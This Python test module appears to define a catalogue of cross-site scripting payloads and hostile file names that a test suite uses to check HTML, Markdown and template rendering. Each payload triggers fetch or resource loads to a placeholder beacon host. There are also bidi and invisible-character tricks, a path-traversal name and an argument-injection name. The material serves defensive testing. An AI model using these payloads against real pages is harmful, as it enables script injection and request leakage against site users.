"""What a hostile article, file name, model, question or browser storage may hold.

`{site}` stands for the address of a counter (`beacons`). Each payload that would do something says how a browser can be made
to do it, so that a test can show, on a page without any protection, that it would.
"""

from dataclasses import dataclass
from typing import Literal

Deed = Literal["itself", "hover", "click", "attribute", "markdown", "template", "nothing"]


@dataclass(frozen=True, slots=True)
class Payload:
    """Text that calls `{site}/<name>` once it is `deed`: shown as HTML, hovered or clicked there, put inside a quoted
    attribute, rendered as Markdown first, or filled into a JavaScript template. "nothing" only looks like something else."""

    name: str
    text: str
    deed: Deed = "itself"

    def at(self, site: str) -> str:
        return self.text.replace("{site}", site)


PAYLOADS = (
    Payload("script", "<script>fetch('{site}/script')</script>"),
    Payload("script-source", "<script src='{site}/script-source'></script>"),
    Payload(
        "closed-first", "</mark></p></div></section></textarea></title><script>fetch('{site}/closed-first')</script>"
    ),
    Payload("image", "<img src='{site}/image'>"),
    Payload("image-error", "<img src=data:, onerror=\"fetch('{site}/image-error')\">"),
    Payload("source-set", "<img srcset='{site}/source-set 1x'>"),
    Payload("vector", "<svg onload=\"fetch('{site}/vector')\"></svg>"),
    Payload("vector-image", "<svg><image href='{site}/vector-image'></image></svg>"),
    Payload("frame", "<iframe src='{site}/frame'></iframe>"),
    Payload("frame-document", "<iframe srcdoc=\"<img src='{site}/frame-document'>\"></iframe>"),
    Payload("object", "<object data='{site}/object'></object>"),
    Payload("embed", "<embed src='{site}/embed'>"),
    Payload("style-import", "<style>@import '{site}/style-import';</style>"),
    Payload("style-attribute", "<b style=\"background: url('{site}/style-attribute')\">bold</b>"),
    Payload("style-sheet", "<link rel=stylesheet href='{site}/style-sheet'>"),
    Payload("prefetch", "<link rel=prefetch href='{site}/prefetch'>"),
    Payload("preload", "<link rel=preload as=image href='{site}/preload'>"),
    Payload("poster", "<video poster='{site}/poster'></video>"),
    Payload("sound", "<audio autoplay src='{site}/sound'></audio>"),
    Payload("input-image", "<input type=image src='{site}/input-image'>"),
    Payload("refresh", "<meta http-equiv=refresh content='0; url={site}/refresh'>"),
    Payload("autofocus", "<input autofocus onfocus=\"fetch('{site}/autofocus')\">"),
    Payload("toggle", "<details open ontoggle=\"fetch('{site}/toggle')\">more</details>"),
    Payload(
        "animation",
        "<style>@keyframes k{}</style><i style='animation:k 1s' onanimationstart=\"fetch('{site}/animation')\">i</i>",
    ),
    Payload("form", "<form action='{site}/form'><button>press</button></form>", "click"),
    Payload("link", "<a href='{site}/link'>press</a>", "click"),
    Payload("script-link", "<a href=\"javascript:fetch('{site}/script-link')\">press</a>", "click"),
    Payload("ping", "<a href='#' ping='{site}/ping'>press</a>", "click"),
    Payload("hover", "<b onmouseover=\"fetch('{site}/hover')\">hover</b>", "hover"),
    Payload("attribute-double", '" onmouseover="fetch(\'{site}/attribute-double\')" x="', "attribute"),
    Payload("attribute-single", "' onmouseover='fetch(`{site}/attribute-single`)' x='", "attribute"),
    Payload("markdown-image", "![x]({site}/markdown-image)", "markdown"),
    Payload("markdown-reference", "![x][r]\n\n[r]: {site}/markdown-reference", "markdown"),
    Payload("template", "${fetch('{site}/template')}", "template"),
    Payload("template-tick", "`+fetch('{site}/template-tick')+`", "template"),
    Payload("handlebars", "{{constructor.constructor('fetch(\"{site}/handlebars\")')()}}", "nothing"),
    Payload("bare-link", "Read on at {site}/bare-link or [here]({site}/bare-link) <{site}/bare-link>", "nothing"),
    Payload("formula", "$$\\href{javascript:fetch('{site}/formula')}{x}$$", "nothing"),
    Payload("entities", "&lt;img src=x onerror=1&gt; &#60;script&#62; &amp;amp;", "nothing"),
    Payload("turned", "invoice\u202efdp.exe\u202c and \u2067turned\u2069 and \u202dforced\u2066unclosed", "nothing"),
    Payload("invisible", "Ka\u200bshin\u2060 \u200e\ufeffsaid\u00ad it\u034f \U000e0041\U000e0042", "nothing"),
    Payload("controls", "bell\x07 escape\x1b[31m back\x08 form\x0c next\x85 line\u2028 part\u2029 end", "nothing"),
    Payload("citation", "[1](#cite-1) <a class='cite' href='#cite-9' data-number='9'>[9]</a> [^1]: x", "nothing"),
)

FILE_NAMES = (
    "<img src=x onerror=window.hacked=1>.txt",
    "<script>window.hacked=1<script>.md",
    '" onmouseover="window.hacked=1" x=".txt',
    "' autofocus onfocus='window.hacked=1.txt",
    "${window.hacked=1}.txt",
    "{{window.hacked=1}}.txt",
    "invoice\u202etxt.exe.txt",
    "Ka\u200bshin\u2060.txt",
    "javascript:window.hacked=1.txt",
    "%2e%2e%2fetc%2fpasswd.txt",
    "&lt;b&gt;.txt",
    "[x](javascript:1).md",
    "--help.txt",
)
"""Names of files, as a folder may hold them; run as markup, they set `window.hacked`."""
